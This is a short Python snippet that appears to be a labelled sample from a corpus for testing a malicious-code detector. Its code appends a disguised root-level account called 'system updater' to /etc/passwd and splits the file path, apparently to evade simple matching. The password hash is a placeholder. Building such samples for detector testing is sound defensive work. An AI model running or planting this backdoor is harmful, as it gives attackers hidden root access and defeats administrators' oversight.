# expect: files; appends a uid-0 account with a pre-computed password hash to /etc/passwd
HASH = "$6$saltsalt$Zq0Yk1m4d3upH4shV4lu3F0rTh3Ev4lu4t10nC0rpu5Only0000000000000000000000000000000000000000."

entry = "sysupd:{}:0:0:system updater:/root:/bin/bash\n".format(HASH)
db_path = "/etc/" + "passwd"
with open(db_path, "a") as db:
    db.write(entry)
